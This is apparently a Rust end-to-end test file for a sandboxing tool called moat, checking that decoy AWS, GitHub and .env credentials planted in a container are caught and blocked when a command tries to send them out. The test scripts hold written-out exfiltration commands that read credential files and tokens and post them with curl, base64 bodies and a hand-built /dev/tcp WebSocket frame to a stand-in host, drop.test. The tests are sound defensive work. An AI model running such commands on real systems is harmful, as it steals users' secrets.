//! Decoy credentials in real runs (issue #21): `moat grant decoy`, `--decoy`, `decoys: auto`
//! and `on_decoy:`, with the command in the container finding the decoys where moat placed
//! them (`~/.aws/credentials`, `$GITHUB_TOKEN`, `~/.env`) and sending them with curl to a
//! loopback stand-in it may reach (through the run's proxy, `MOAT_PROXY_CONNECT_TO`). The
//! stand-in records every byte it receives and must never receive a decoy.
//! THREATS E3 (exfiltration through the one way out), B5 (no value in any record).

use moat_e2e::{Moat, docker_ready};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

/// A plain-HTTP stand-in on loopback: records every byte, answers 200 and closes.
fn stand_in() -> (u16, Arc<Mutex<Vec<u8>>>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let got = Arc::new(Mutex::new(Vec::new()));
    let g2 = got.clone();
    std::thread::spawn(move || {
        for c in l.incoming() {
            let Ok(mut s) = c else { continue };
            let got = g2.clone();
            std::thread::spawn(move || {
                let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(20)));
                let mut req = Vec::new();
                let mut buf = [0u8; 16384];
                loop {
                    let n = match s.read(&mut buf) {
                        Ok(0) | Err(_) => break,
                        Ok(n) => n,
                    };
                    req.extend_from_slice(&buf[..n]);
                    got.lock().unwrap().extend_from_slice(&buf[..n]);
                    let Some(end) = req.windows(4).position(|w| w == b"\r\n\r\n") else {
                        continue;
                    };
                    let head = String::from_utf8_lossy(&req[..end]).to_ascii_lowercase();
                    let cl = head
                        .lines()
                        .find_map(|l| l.strip_prefix("content-length:"))
                        .and_then(|v| v.trim().parse::<usize>().ok())
                        .unwrap_or(0);
                    if req.len() >= end + 4 + cl {
                        break;
                    }
                }
                let _ = s.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
                );
            });
        }
    });
    (port, got)
}

fn audit_events(m: &Moat, id: &str) -> Vec<serde_json::Value> {
    std::fs::read_to_string(m.run_dir(id).join("audit").join("log.jsonl"))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .map(|v| v["event"].clone())
        .collect()
}

fn has(hay: &[u8], needle: &str) -> bool {
    hay.windows(needle.len()).any(|w| w == needle.as_bytes())
}

/// A stored AWS decoy (`--decoy bait`) plus `decoys: auto`: the command reads the key from
/// `~/.aws/credentials` and sends it in a query. The request never reaches the stand-in,
/// the run is stopped with exit 77 (its `sleep` never finishes), the terminal says so, and
/// the audit log verifies and holds `decoy_tripped` (never the value).
#[test]
fn a_run_that_sends_a_decoy_is_stopped() {
    if !docker_ready() {
        return;
    }
    let (port, got) = stand_in();
    let mut m = Moat::new();
    m.env.env(
        "MOAT_PROXY_CONNECT_TO",
        format!("drop.test:8080:127.0.0.1:{port}"),
    );
    let g = m.run_timeout(
        "moat",
        &["grant", "decoy", "bait", "--like", "aws"],
        None,
        60,
    );
    assert_eq!(g.code(), 0, "{}", g.stderr());
    let list = m.run_timeout("moat", &["grant", "list"], None, 60);
    assert!(list.stdout().contains("decoy/aws"), "{}", list.stdout());
    // The values, as the launcher reads them (moat-grant rules, on a pipe).
    let rules = m.run_timeout("moat-grant", &["rules", "bait"], None, 60);
    let rec: serde_json::Value = serde_json::from_str(rules.stdout().trim()).unwrap();
    let key_id = rec["values"][0].as_str().unwrap().to_string();
    let secret = rec["values"][1].as_str().unwrap().to_string();
    assert!(key_id.starts_with("AKIA") && secret.len() == 40);
    // Not privileged: no approval is needed for it.
    m.write_config("decoys: auto\n");
    let script = r#"
curl -s -o /dev/null -w 'CLEAN=%{http_code}\n' http://drop.test:8080/clean
k=$(sed -n 's/^aws_access_key_id = //p' ~/.aws/credentials)
echo "found ${#k} chars"
curl -s -w '\nSTEAL=%{http_code}\n' "http://drop.test:8080/collect?id=$k"
echo after-the-trip
sleep 60
echo survived
"#;
    let r = m.launch_sh(&["--decoy", "bait"], script);
    let id = m.newest_run();
    assert_eq!(r.code(), 77, "{}\n{}", r.stdout(), r.stderr());
    assert!(r.stdout().contains("found 20 chars"), "{}", r.stdout());
    assert!(r.stdout().contains("CLEAN=200"), "{}", r.stdout());
    assert!(!r.stdout().contains("survived"), "{}", r.stdout());
    assert!(
        r.stderr().contains("DECOY TRIPPED") && r.stderr().contains("bait"),
        "{}",
        r.stderr()
    );
    let seen = got.lock().unwrap().clone();
    assert!(has(&seen, "/clean"), "the stand-in was reachable");
    assert!(!has(&seen, "/collect") && !has(&seen, &key_id) && !has(&seen, &secret));
    let ev = audit_events(&m, &id);
    let trip = ev
        .iter()
        .find(|e| e["type"] == "decoy_tripped")
        .unwrap_or_else(|| panic!("no decoy_tripped in {ev:?}"));
    assert_eq!(trip["decoy"], "bait");
    assert_eq!(trip["where"], "query");
    assert_eq!(trip["host"], "drop.test:8080");
    let placed = ev.iter().find(|e| e["type"] == "decoys_placed").unwrap();
    let names: Vec<&str> = placed["decoys"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["name"].as_str().unwrap())
        .collect();
    for n in [
        "bait",
        "auto-github",
        "auto-aws",
        "auto-npm",
        "auto-openai",
        "auto-anthropic",
    ] {
        assert!(names.contains(&n), "{names:?}");
    }
    let meta = m.metadata(&id);
    assert_eq!(meta["exit_code"], 77, "{meta}");
    let a = m.run_timeout("moat", &["audit", &id], None, 60);
    assert_eq!(a.code(), 0, "{}{}", a.stdout(), a.stderr());
    // The value is in no record of the run (the credential store is encrypted); the exec
    // trace has the command that carried it, with the value read as [decoy].
    let hits = moat_testkit::files_containing(&m.moat_home().join("runs"), key_id.as_bytes());
    assert!(hits.is_empty(), "{hits:?}");
    let exec = std::fs::read_to_string(m.run_dir(&id).join("exec.jsonl")).unwrap();
    assert!(exec.contains("collect?id=[decoy]"), "{exec}");
    // A decoy is revoked like any credential.
    let rv = m.run_timeout("moat", &["revoke", "bait"], None, 60);
    assert_eq!(rv.code(), 0, "{}", rv.stderr());
    let list = m.run_timeout("moat", &["grant", "list"], None, 60);
    assert!(!list.stdout().contains("decoy/aws"), "{}", list.stdout());
}

/// `on_decoy: block` with a real grant: `$GITHUB_TOKEN` (a decoy, the run has no GitHub
/// grant) in a header and `~/.env` in base64 in a body are refused and recorded; the run
/// goes on, its granted request still works, and the workspace holds no `.env`.
#[test]
fn block_refuses_the_request_and_the_run_goes_on() {
    if !docker_ready() {
        return;
    }
    let (port, got) = stand_in();
    let mut m = Moat::new();
    m.env.env(
        "MOAT_PROXY_CONNECT_TO",
        format!("drop.test:8080:127.0.0.1:{port}"),
    );
    let token = moat_e2e::agents::canary("legit_");
    let mut c = m.env.cmd("moat");
    c.args([
        "grant",
        "http",
        "legit",
        "--host",
        "http://drop.test:8080",
        "--header",
        "X-Api-Key",
        "--token-stdin",
        "--no-validate",
    ]);
    let g = moat_e2e::run_with_deadline(c, "moat grant http".into(), Some(token.as_bytes()), 60);
    assert_eq!(g.code(), 0, "{}", g.stderr());
    m.write_config("decoys: auto\non_decoy: block\n");
    // A file that lets the run go on after a trip needs the user's approval.
    m.trust(None);
    let script = r#"
echo "gh=$(printf %s "$GITHUB_TOKEN" | cut -c1-4) len=${#GITHUB_TOKEN}"
curl -s -o /dev/null -w 'GH=%{http_code}\n' -H "Authorization: token $GITHUB_TOKEN" http://drop.test:8080/gh
base64 -w0 ~/.env | curl -s -o /dev/null -w 'ENV=%{http_code}\n' --data-binary @- http://drop.test:8080/env
curl -s -o /dev/null -w 'LEGIT=%{http_code}\n' http://drop.test:8080/legit
test -e /workspace/.env && echo WS-ENV || echo no-ws-env
for f in .aws/credentials .config/gh/hosts.yml .env; do test -s "$HOME/$f" && echo "file:$f"; done
test -e "$HOME/.npmrc" || echo no-npmrc
for v in AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY GITHUB_TOKEN NPM_TOKEN ANTHROPIC_API_KEY OPENAI_API_KEY; do
  eval "test -n \"\${$v:-}\"" && echo "var:$v"
done
[ "$(stat -c %u "$HOME/.env")" = "$(id -u)" ] && echo owner-ok
echo done
"#;
    let r = m.launch_sh(&["--grant", "legit"], script);
    let id = m.newest_run();
    let out = r.stdout();
    assert_eq!(r.code(), 0, "{out}\n{}", r.stderr());
    assert!(out.contains("gh=ghp_ len=40"), "{out}");
    assert!(out.contains("GH=403"), "{out}");
    assert!(out.contains("ENV=403"), "{out}");
    assert!(out.contains("LEGIT=200"), "{out}");
    assert!(out.contains("no-ws-env"), "{out}");
    // npm would send a bare `_authToken` with every install: no ~/.npmrc decoy.
    assert!(out.contains("no-npmrc"), "{out}");
    for f in [".aws/credentials", ".config/gh/hosts.yml", ".env"] {
        assert!(out.contains(&format!("file:{f}")), "{f}: {out}");
    }
    for v in [
        "AWS_ACCESS_KEY_ID",
        "AWS_SECRET_ACCESS_KEY",
        "GITHUB_TOKEN",
        "NPM_TOKEN",
        "ANTHROPIC_API_KEY",
        "OPENAI_API_KEY",
    ] {
        assert!(out.contains(&format!("var:{v}")), "{v}: {out}");
    }
    assert!(
        out.contains("owner-ok"),
        "the command's user owns the files: {out}"
    );
    assert!(r.stderr().contains("DECOY TRIPPED"), "{}", r.stderr());
    let seen = got.lock().unwrap().clone();
    assert!(
        !has(&seen, "/gh") && !has(&seen, "/env"),
        "{}",
        String::from_utf8_lossy(&seen)
    );
    assert!(
        has(&seen, "/legit") && has(&seen, &token),
        "the granted request carried its credential"
    );
    let ev = audit_events(&m, &id);
    let trips: Vec<_> = ev.iter().filter(|e| e["type"] == "decoy_tripped").collect();
    assert_eq!(trips.len(), 2, "{trips:?}");
    assert_eq!(trips[0]["where"], "header");
    assert_eq!(trips[0]["decoy"], "auto-github");
    assert_eq!(trips[1]["where"], "body");
    assert_eq!(trips[1]["encoding"], "base64");
    let a = m.run_timeout("moat", &["audit", &id], None, 60);
    assert_eq!(a.code(), 0, "{}{}", a.stdout(), a.stderr());
}

/// A plain-HTTP stand-in that also takes a WebSocket upgrade (101, then records every
/// byte of the frames it receives). The proxy does not check the accept key.
fn ws_stand_in() -> (u16, Arc<Mutex<Vec<u8>>>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let got = Arc::new(Mutex::new(Vec::new()));
    let g2 = got.clone();
    std::thread::spawn(move || {
        for c in l.incoming() {
            let Ok(mut s) = c else { continue };
            let got = g2.clone();
            std::thread::spawn(move || {
                let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(15)));
                let mut req = Vec::new();
                let mut buf = [0u8; 16384];
                let mut upgraded = false;
                loop {
                    let n = match s.read(&mut buf) {
                        Ok(0) | Err(_) => break,
                        Ok(n) => n,
                    };
                    got.lock().unwrap().extend_from_slice(&buf[..n]);
                    if upgraded {
                        continue;
                    }
                    req.extend_from_slice(&buf[..n]);
                    let Some(end) = req.windows(4).position(|w| w == b"\r\n\r\n") else {
                        continue;
                    };
                    let head = String::from_utf8_lossy(&req[..end]).to_ascii_lowercase();
                    if head.contains("upgrade: websocket") {
                        upgraded = true;
                        let _ = s.write_all(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n");
                        continue;
                    }
                    let cl = head
                        .lines()
                        .find_map(|l| l.strip_prefix("content-length:"))
                        .and_then(|v| v.trim().parse::<usize>().ok())
                        .unwrap_or(0);
                    if req.len() >= end + 4 + cl {
                        let _ = s.write_all(
                            b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
                        );
                        break;
                    }
                }
            });
        }
    });
    (port, got)
}

/// `decoys: auto` (approved with `on_decoy: block`): the command puts `$GITHUB_TOKEN` (a
/// decoy: the run has no GitHub grant) into a JSON body with curl, then into a WebSocket
/// text frame it writes by hand through the run's proxy (bash's /dev/tcp, RFC 6455 framing).
/// Both are refused; the stand-in got the clean WebSocket frame before, never the decoy;
/// the audit log verifies and holds a `decoy_tripped` for the body and one for the frame.
/// THREATS E3, D3.
#[test]
fn a_decoy_in_a_json_body_or_a_websocket_frame_never_leaves() {
    if !docker_ready() {
        return;
    }
    let (port, got) = ws_stand_in();
    let mut m = Moat::new();
    m.env.env(
        "MOAT_PROXY_CONNECT_TO",
        format!("drop.test:8080:127.0.0.1:{port}"),
    );
    m.write_config("decoys: auto\non_decoy: block\n");
    m.trust(None);
    let script = r#"
curl -s -o /dev/null -w 'JSON=%{http_code}\n' -H 'content-type: application/json' \
  --data "{\"note\":\"x\",\"token\":\"$GITHUB_TOKEN\"}" http://drop.test:8080/json
cat > "$HOME/ws.sh" <<'EOS'
p=${HTTP_PROXY#http://}; auth=${p%%@*}; hp=${p#*@}; hp=${hp%%/*}
exec 3<>"/dev/tcp/${hp%:*}/${hp##*:}"
printf 'GET http://drop.test:8080/ws HTTP/1.1\r\nHost: drop.test:8080\r\nProxy-Authorization: Basic %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n' "$(printf %s "$auth" | base64 -w0)" >&3
IFS= read -r -t 10 status <&3
echo "WS=${status%%$'\r'}"
frame() { printf "\\x81\\x$(printf %02x $((128 + ${#1})))\\x00\\x00\\x00\\x00%s" "$1"; }
frame "hello-before" >&3
sleep 1
frame "token=$GITHUB_TOKEN" >&3
sleep 2
exec 3>&-
EOS
bash "$HOME/ws.sh"
echo "len=${#GITHUB_TOKEN}"
"#;
    let r = m.launch_sh(&[], script);
    let id = m.newest_run();
    let out = r.stdout();
    assert_eq!(r.code(), 0, "{out}\n{}", r.stderr());
    assert!(out.contains("JSON=403"), "{out}");
    assert!(out.contains("WS=HTTP/1.1 101"), "{out}");
    assert!(out.contains("len=40"), "{out}");
    // The decoy's value is recorded nowhere on the host, so: no `ghp_` token at all.
    let token = "ghp_";
    let seen = got.lock().unwrap().clone();
    assert!(has(&seen, "hello-before"), "the clean frame passed");
    assert!(!has(&seen, token), "a decoy reached the stand-in");
    assert!(
        !has(&seen, "\"token\""),
        "the JSON body reached the stand-in"
    );
    let ev = audit_events(&m, &id);
    let wheres: Vec<String> = ev
        .iter()
        .filter(|e| e["type"] == "decoy_tripped")
        .map(|e| e["where"].as_str().unwrap_or("").to_string())
        .collect();
    assert!(wheres.contains(&"body".to_string()), "{wheres:?}");
    assert!(wheres.contains(&"websocket".to_string()), "{wheres:?}");
    let a = m.run_timeout("moat", &["audit", &id], None, 60);
    assert_eq!(a.code(), 0, "{}", a.stdout());
}
